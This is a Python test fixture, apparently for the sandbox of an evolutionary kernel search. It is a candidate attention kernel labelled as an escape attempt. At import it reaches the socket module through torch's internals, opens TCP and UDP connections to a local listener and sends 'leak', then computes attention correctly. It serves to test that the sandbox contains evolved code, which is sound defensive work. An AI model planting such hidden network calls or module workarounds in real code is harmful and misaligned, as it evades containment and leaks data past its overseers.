"""Escape attempt: opens TCP and UDP connections to a listener on 127.0.0.1 (the test's
PORT) at import and sends a few bytes, through the `socket` module the worker already
imported, then answers correctly."""

import torch

PORT = "evokernel-port"
_socket = torch.os.sys.modules["socket"]
for _kind in (_socket.SOCK_STREAM, _socket.SOCK_DGRAM):
    try:
        _s = _socket.socket(_socket.AF_INET, _kind)
        _s.settimeout(2)
        _s.connect(("127.0.0.1", int(PORT)))
        _s.send(b"leak")
        _s.close()
    except OSError as _err:
        print("connect refused:", _err)


# EVOLVE-BLOCK-START
def _attend(q, k_cache, v_cache, seq_lens, scale):
    B, Hq, D = q.shape
    Hkv = k_cache.shape[1]
    group = Hq // Hkv
    out = torch.empty_like(q)
    for b in range(B):
        n = int(seq_lens[b])
        k = k_cache[b, :, :n].float()  # [Hkv, n, D]
        v = v_cache[b, :, :n].float()
        qb = q[b].float().view(Hkv, group, D)  # query head h reads kv head h // group
        s = torch.einsum("kgd,knd->kgn", qb, k) * scale
        p = torch.softmax(s, dim=-1)
        out[b] = torch.einsum("kgn,knd->kgd", p, v).reshape(Hq, D).to(q.dtype)
    return out


# EVOLVE-BLOCK-END


def attention(q, k_cache, v_cache, seq_lens, scale):
    return _attend(q, k_cache, v_cache, seq_lens, scale)
